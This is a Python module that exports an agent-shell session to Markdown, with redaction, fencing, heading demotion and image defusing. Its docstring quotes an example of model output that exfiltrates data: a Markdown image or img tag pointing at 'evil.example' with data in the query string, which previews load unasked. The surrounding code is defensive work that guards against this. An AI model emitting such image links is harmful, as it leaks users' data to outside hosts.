"""A session as Markdown: for sharing, pasting into an issue, reading later.

Turns are headed ``## User`` / ``## Assistant``, and no message's text can head one
(its own headings are demoted: :func:`demote`); tool calls and their results are
fenced blocks (the fence is longer than any backtick run inside, so a result that
itself contains Markdown fences cannot break out). Everything goes through the
redactor once more (an export of an in-memory history never saw the file's
redaction) and through the one sanitiser, as for a terminal: an export is read
with ``cat`` and ``less``, so an ESC, a BEL or a bidi override in it is shown,
not obeyed. It is read in Markdown previews too (VS Code, Obsidian, a wiki),
which load a model's ``![x](https://evil.example/p.png?d=…)`` or ``<img src=…>``
unasked: the whole export goes through the defuser ACP uses
(:mod:`shell.core.remoteimages`), so an image is a link and a loading tag is text,
outside fenced code (finding Y12).
"""

from __future__ import annotations

import re
from collections.abc import Collection, Mapping, Sequence
from typing import Any

from shell.core.messages import (
    AssistantMessage,
    Block,
    DataBlock,
    HintBlock,
    Message,
    SystemMessage,
    TextBlock,
    ThinkingBlock,
    ToolCallBlock,
    ToolResultMessage,
    UserMessage,
)
from shell.core.remoteimages import defuse_images
from shell.core.summaryrecord import summary_of
from shell.core.textsafety import json_text, sanitize

from .loader import LoadedSession
from .redact import Redactor


def fence(text: str, info: str = "") -> str:
    longest = max((len(m) for m in re.findall(r"`+", text)), default=0)
    ticks = "`" * max(3, longest + 1)
    return f"{ticks}{info}\n{text}\n{ticks}"


_FENCE = re.compile(r" {0,3}(`{3,}|~{3,})")
_TOP_HEADING = re.compile(r"^( {0,3})#{1,2}(?=[ \t]|$)")
_UNDERLINE = re.compile(r" {0,3}(=+|-+)[ \t]*")
_HTML_HEADING = re.compile(r"<(/?h[12])\b", re.I)


def demote(text: str) -> str:
    """A message's own headings one level below the turn headings (``## User`` in a
    reply becomes ``### User``; a setext underline becomes a rule, ``<h2>`` text), so
    no text a model writes reads as a turn it did not take. Code blocks stay as they are."""
    out: list[str] = []
    fence_mark = ""
    for line in text.split("\n"):
        opened = _FENCE.match(line)
        if fence_mark:
            if opened and opened.group(1)[0] == fence_mark[0] and len(opened.group(1)) >= len(fence_mark):
                fence_mark = ""
        elif opened:
            fence_mark = opened.group(1)
        else:
            line = _HTML_HEADING.sub(r"&lt;\1", _TOP_HEADING.sub(r"\1###", line, count=1))
            if _UNDERLINE.fullmatch(line) and out and out[-1].strip():
                out.append("")  # not an underline of the line before: a rule, or text
        out.append(line)
    return "\n".join(out)


def _data(block: DataBlock) -> str:
    return f"*[{block.media_type} data, {len(block.data)} bytes]*"


def _blocks(blocks: Sequence[Block], r: Redactor) -> list[str]:
    parts: list[str] = []
    for b in blocks:
        if isinstance(b, TextBlock):
            if b.text.strip():
                parts.append(demote(r.text(b.text)))
        elif isinstance(b, ThinkingBlock):
            if b.text.strip():
                quoted = "\n".join(f"> {line}" for line in r.text(b.text).splitlines())
                parts.append(f"> **Thinking**\n>\n{quoted}")
        elif isinstance(b, HintBlock):
            parts.append(f"*{demote(r.text(b.text))}*")
        elif isinstance(b, ToolCallBlock):
            args = json_text(r.json(b.args), indent=2)
            parts.append(f"**Tool call** `{b.name}` ({b.id})\n\n{fence(args, 'json')}")
        elif isinstance(b, DataBlock):
            parts.append(_data(b))
    return parts


STOPPED_LABELS = {"cancelled": "Tool call cancelled", "interrupted": "Tool call interrupted",
                  "rejected": "Tool call rejected by you", "blocked": "Tool call blocked by a rule"}
"""A call that was stopped reads so, not as the tool's error (the session's outcome says
which: the user cancelled the reply, agent-shell stopped while it ran, the user said no,
or a rule or check refused it before it ran)."""


def _result(m: ToolResultMessage, r: Redactor, outcome: str = "") -> str:
    label = STOPPED_LABELS.get(outcome) or ("Tool error" if m.is_error else "Tool result")
    if isinstance(m.content, str):
        body = fence(r.text(m.content))
    else:
        pieces = [
            fence(r.text(b.text)) if isinstance(b, TextBlock) else _data(b)
            for b in m.content
        ]
        body = "\n\n".join(pieces) or fence("")
    return f"**{label}** `{m.name}` ({m.call_id})\n\n{body}"


COMPACTED_HERE = ("---\n\n*Compacted here (`/compact`): from this point on the model was sent a "
                  "summary in place of the turns above.*")


def export_markdown(
    session: LoadedSession | Sequence[Message], *, redactor: Redactor | None = None, title: str | None = None,
    outcomes: Mapping[str, str] | None = None, compacted_before: Collection[int] = (),
) -> str:
    """The conversation as Markdown (secrets redacted). ``outcomes``: how calls ended
    that their results show only as errors (the session's, by call id; a loaded
    session brings its own). ``compacted_before``: indexes of messages a compaction's
    summary took the place of the turns before (a line says so there; ``len(messages)``
    for the end)."""
    r = redactor if redactor is not None else Redactor.from_environment()
    meta: dict[str, Any] = session.meta if isinstance(session, LoadedSession) else {}
    messages = session.messages if isinstance(session, LoadedSession) else list(session)
    if outcomes is None:
        outcomes = session.outcomes if isinstance(session, LoadedSession) else {}
    out = [f"# {r.text(title or 'agent-shell session ' + str(meta.get('id', '')).strip()).strip()}"]
    details = [f"{k}: {r.text(str(meta[k]))}" for k in ("created", "cwd", "model") if meta.get(k)]
    if details:
        out.append("\n".join(f"- {d}" for d in details))
    last_role = ""
    for index, m in enumerate([*messages, None]):
        if index in compacted_before:
            out.append(COMPACTED_HERE)
            last_role = ""
        if m is None:
            break
        if isinstance(m, SystemMessage):
            out.append(f"## System\n\n{demote(r.text(m.text))}")
            last_role = "system"
        elif (summary := summary_of(m)) is not None:  # a model's record, not the user's words
            out.append(f"## Summary of earlier turns\n\n{demote(r.text(summary))}")
            last_role = "user"
        elif isinstance(m, UserMessage):
            content = m.content if isinstance(m.content, str) else None
            body = demote(r.text(content)) if content is not None else "\n\n".join(_blocks(m.content, r))  # type: ignore[arg-type]
            out.append(f"## User\n\n{body}")
            last_role = "user"
        elif isinstance(m, AssistantMessage):
            parts = _blocks(m.content, r)
            if m.stop_reason in ("interrupted", "cancelled", "error"):
                parts.append(f"*({m.stop_reason})*")
            head = "" if last_role in ("assistant", "tool") else "## Assistant\n\n"
            out.append(head + "\n\n".join(parts))
            last_role = "assistant"
        elif isinstance(m, ToolResultMessage):
            out.append(_result(m, r, outcomes.get(m.call_id, "")))
            last_role = "tool"
    return defuse_images(sanitize("\n\n".join(p for p in out if p) + "\n"))
